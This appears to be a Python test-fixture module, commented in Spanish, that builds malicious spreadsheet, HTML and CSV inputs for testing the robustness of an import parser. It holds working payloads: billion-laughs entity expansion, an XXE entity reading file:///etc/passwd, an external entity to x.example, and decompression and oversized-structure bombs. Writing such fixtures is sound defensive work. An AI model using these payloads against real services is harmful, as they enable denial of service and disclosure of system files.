"""Hojas de cálculo hechas para ahogar a quien las lea. Se hacen al vuelo; ninguna vive en el repositorio."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import openpyxl

Octetos = Callable[[], bytes]
TITULOS = ("MUNICIPIO", "NOMBRE")
HOJA = "xl/worksheets/sheet1.xml"
DTD = '<?xml version="1.0"?><!DOCTYPE x [{}]>'
RISAS = "".join(
    f'<!ENTITY r{n} "{f"&r{n - 1};" * 10 if n else "ja"}">' for n in range(10)
)  # diez mil millones de risas
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def sano() -> bytes:
    libro, salida = openpyxl.Workbook(), io.BytesIO()
    for fila in (TITULOS, ("Lerdo", "Ana")):
        libro.worksheets[0].append(fila)
    libro.save(salida)
    return salida.getvalue()


def con_parte(nombre: str, contenido: bytes, metodo: int = zipfile.ZIP_DEFLATED) -> bytes:
    """El libro sano, con esa parte cambiada o agregada."""
    salida = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sano())) as de, zipfile.ZipFile(salida, "w", metodo) as a:
        for parte in de.namelist():
            if parte != nombre:
                a.writestr(parte, de.read(parte))
        a.writestr(nombre, contenido)
    return salida.getvalue()


def hoja(celdas: str, antes: str = "") -> bytes:
    cuerpo = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return f"{antes}{cuerpo}{celdas}</sheetData></worksheet>".encode()


def con_hoja(celdas: str, antes: str = "") -> bytes:
    return con_parte(HOJA, hoja(celdas, antes))


def en_la_esquina() -> bytes:
    return con_hoja('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def de_textos(largo: int, celdas: int) -> bytes:
    """Un texto largo, una vez, y muchísimas celdas que lo dicen."""
    textos = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"x" * largo}</t></si></sst>'
    filas = "".join(
        f'<row r="{n}">' + f'<c r="A{n}" t="s"><v>0</v></c>' + "</row>" for n in range(1, celdas + 1)
    )
    salida = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(con_hoja(filas))) as de,
        zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as a,
    ):
        for parte in de.namelist():
            if parte != "xl/sharedStrings.xml":
                a.writestr(parte, de.read(parte))
        a.writestr("xl/sharedStrings.xml", textos)
    return salida.getvalue()


def cifrado() -> bytes:
    """Dice que cada parte está cifrada."""
    hecho = bytearray(sano())
    lugar = 0
    while (lugar := hecho.find(b"PK\1\2", lugar)) >= 0:
        hecho[lugar + 8] |= 1
        lugar += 4
    return bytes(hecho)


def de_muchas_partes(cuantas: int) -> bytes:
    salida = io.BytesIO(sano())
    with zipfile.ZipFile(salida, "a") as paquete:
        for n in range(cuantas):
            paquete.writestr(f"{n}", b"")
    return salida.getvalue()


def que_dice_ser(directorio: int) -> bytes:
    """Su final dice que el directorio ocupa esos octetos."""
    hecho = bytearray(sano())
    lugar = hecho.rindex(b"PK\5\6")
    hecho[lugar + 12 : lugar + 16] = struct.pack("<I", directorio)
    return bytes(hecho)


LIBROS: dict[str, Octetos] = {
    "celda en la ultima esquina": en_la_esquina,
    "dos celdas en las esquinas": lambda: con_hoja(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    ),
    "risas en la hoja": lambda: con_hoja(
        '<row r="1"><c r="A1" t="str"><v>&r9;</v></c></row>', DTD.format(RISAS)
    ),
    "risas en el libro": lambda: con_parte("xl/workbook.xml", (DTD.format(RISAS) + "<x>&r9;</x>").encode()),
    "entidad de un archivo": lambda: con_hoja(
        '<row r="1"><c r="A1" t="str"><v>&x;</v></c></row>',
        DTD.format('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    ),
    "entidad de otra maquina": lambda: con_hoja(
        '<row r="1"><c r="A1" t="str"><v>&x;</v></c></row>',
        DTD.format('<!ENTITY x SYSTEM "http://x.example/">'),
    ),
    "un texto de un mega dicho cien mil veces": lambda: de_textos(1_000_000, 100_000),
    "que se expande a cuatrocientos megas": lambda: con_parte(HOJA, b" " * 400_000_000),
    "de 119 mil columnas ocultas": lambda: con_parte(
        HOJA,
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cols>'
        + b'<col min="1" max="999999999" hidden="1"/>' * 200
        + b"</cols><sheetData/></worksheet>",
    ),
    "muy hondo": lambda: con_parte(HOJA, b"<a>" * 2_000_000),
    "cifrado": cifrado,
    "comprimido de otra manera": lambda: con_parte(HOJA, hoja(""), zipfile.ZIP_LZMA),
    "comprimido de otra manera mas": lambda: con_parte(HOJA, hoja(""), zipfile.ZIP_BZIP2),
    "de cuarenta mil partes": lambda: de_muchas_partes(40_000),
    "que dice un directorio enorme": lambda: que_dice_ser(900_000_000),
    "que dice un directorio vacio": lambda: que_dice_ser(0),
    "sin hojas": lambda: con_parte("xl/workbook.xml", b"<workbook/>"),
    "hoja que no es XML": lambda: con_parte(HOJA, b"\0" * 1_000),
    "xls de basura": lambda: XLS + b"\xff" * 50_000,
    "xls cuyo siguiente sector es el mismo": lambda: XLS + struct.pack("<I", 0) * 20_000,
    "pagina de mil millones de columnas": lambda: (
        b"<html><table><tr><td colspan=999999999 rowspan=999999999>x</td></tr></table></html>"
    ),
    "pagina de tablas en tablas": lambda: b"<html>" + b"<table><tr><td>" * 300_000,
}
TEXTOS: dict[str, Octetos] = {
    "csv de veinte millones de renglones": lambda: b"a\n" + b"\n" * 20_000_000,
    "csv de un renglon de diez millones de celdas": lambda: b"a,b\n" + b"," * 10_000_000,
    "csv de comillas que no cierran": lambda: b'a,b\n"' + b"x" * 5_000_000,
    "csv con nulos": lambda: b"a,b\n\0\0",
    "csv de una celda enorme": lambda: b"a,b\n" + b"x" * 10_000_000 + b",y\n",
}
